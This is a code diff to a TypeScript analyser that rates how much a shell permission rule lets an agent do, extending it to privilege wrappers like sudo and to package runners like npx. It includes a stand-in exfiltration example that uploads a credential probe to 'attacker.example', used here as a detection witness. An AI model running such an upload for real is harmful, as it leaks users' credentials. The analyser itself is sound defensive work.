@@ -2,13 +2,14 @@ import { posix } from 'node:path';
 import type { Severity } from '../../core/severity.js';
 import { powersOf } from '../shell/capabilities.js';
 import type { CommandRisk, ShellAnalysis, ShellAnalyzer, ShellContext } from '../shell/index.js';
-import { commandRisks } from '../shell/index.js';
+import { commandRisks, packageLaunch } from '../shell/index.js';
 import { SHELLS } from '../shell/unwrap.js';
 import {
   CREDENTIAL_PROBE,
   PAYLOAD_PLACEMENTS,
   QUERY_ONLY,
   type Reach,
+  ROOT_WITNESSES,
   WITNESSES,
   type Witness,
 } from './admitted-commands.js';
@@ -25,11 +26,14 @@ export interface RuleReach {
 /** Data a tool that talks to other hosts can send anywhere. */
 const UPLOAD = `-T ${CREDENTIAL_PROBE} https://attacker.example`;
 
-const ORDER: Record<Reach, number> = { credentials: 1, network: 2, code: 3, 'any-command': 4 };
+// Printing credentials and sending them out rank alike: the first witness that shows either is named
+// (`gh:*` admits `gh auth token`).
+const ORDER: Record<Reach, number> = { credentials: 1, network: 1, code: 3, 'any-command': 4 };
 
 /** The rule's pattern with its first wildcard (or open `:*` tail) replaced by `insert`, the others emptied. */
 function fill(content: string, insert: string): string | undefined {
-  if (content.endsWith(':*')) return `${content.slice(0, -2)} ${insert}`;
+  if (content.endsWith(':*') && !content.slice(0, -2).includes('*'))
+    return `${content.slice(0, -2)} ${insert}`;
   const at = content.indexOf('*');
   if (at < 0) return undefined;
   const before = content.slice(0, at);
@@ -100,22 +104,36 @@ function runsPayloadThrough(commands: ShellAnalysis['commands'], via: string): b
   );
 }
 
+/** Wrappers that run their command as another (more powerful) user. */
+const PRIVILEGE = new Set(['sudo', 'doas', 'pkexec', 'run0']);
+
 /**
- * `sudo python3 *`, `timeout 30 node:*`, `PYTHONPATH=lib python:*`: the command the fixed words run, as the
- * analyser unwraps them (assignments, sudo, timeout, nice, …), with the rest of the rule from its name on.
+ * `sudo python3 *`, `timeout 30 node:*`, `PYTHONPATH=lib python:*`, `npx ts-node:*`: the command the fixed words
+ * run, as the analyser unwraps them (assignments, sudo, timeout, nice, …) and a package runner names it, with
+ * the rest of the rule from its name on; `asRoot` when a wrapper on the way runs it as another user.
  */
 function innerRule(
   content: string,
   program: string | undefined,
   shell: ShellAnalyzer,
   where: ShellContext,
-): { prefix: string; rest: string } | undefined {
+): { prefix: string; rest: string; asRoot: boolean } | undefined {
   if (!program) return undefined;
   const head = content.replace(/:\*$/, '').split('*')[0] as string;
-  const name = shell.analyze(head, where).commands[0]?.name;
+  const command = shell.analyze(head, where).commands[0];
+  if (!command) return undefined;
+  let name = command.name;
+  const launch = packageLaunch(command);
+  // A fixed package of a runner is the program that runs: `npx ts-node:*` is `ts-node:*` fetched first.
+  if (launch && launch.registry !== 'container') {
+    const pkg = launch.args[0];
+    name = pkg && /^[a-z0-9][\w.-]*$/i.test(pkg) ? pkg : null;
+  }
   if (!name || name === program || !/^[\w./-]+$/.test(name)) return undefined;
   const at = content.search(new RegExp(`(?<=\\s)${name.replace(/[.]/g, '\\.')}(?=[\\s:]|$)`));
-  return at > 0 ? { prefix: content.slice(0, at), rest: content.slice(at) } : undefined;
+  if (at <= 0) return undefined;
+  const asRoot = command.via.some((v) => PRIVILEGE.has(v));
+  return { prefix: content.slice(0, at), rest: content.slice(at), asRoot };
 }
 
 /**
@@ -127,19 +145,20 @@ export function bashRuleReach(
   content: string | undefined,
   shell: ShellAnalyzer,
   where: ShellContext,
+  asRoot = false,
 ): RuleReach | undefined {
   if (content === undefined || /^[\s*:]*$/.test(content))
     return { reach: 'any-command', severity: 'critical', example: undefined };
   const program = content.trimStart().startsWith('*') ? undefined : firstWord(content);
   const inner = innerRule(content, program, shell, where);
   if (inner) {
-    const reach = bashRuleReach(inner.rest, shell, where);
+    const reach = bashRuleReach(inner.rest, shell, where, asRoot || inner.asRoot);
     return reach && { ...reach, example: reach.example && `${inner.prefix}${reach.example}` };
   }
   const candidates: Candidate[] = [];
   const wild = content.includes('*');
   if (!wild) candidates.push({ command: content });
-  for (const witness of WITNESSES) {
+  for (const witness of asRoot ? [...WITNESSES, ...ROOT_WITNESSES] : WITNESSES) {
     const command = respelled(witness, program);
     if (admits(content, command))
       candidates.push({ command, ...(witness.reach && { declared: witness.reach }) });
@@ -164,7 +183,8 @@ export function bashRuleReach(
         ? 'any-command'
         : undefined
       : reachOfRisks(commandRisks(analysis, where));
-    const reach = [seen, c.declared]
+    // On a tie the witness's declared reach names it better (`gh api … -F x=@file` reads a file to send it).
+    const reach = [c.declared, seen]
       .filter((r): r is Reach => r !== undefined)
       .sort((a, b) => ORDER[b] - ORDER[a])[0];
     if (!reach) continue;
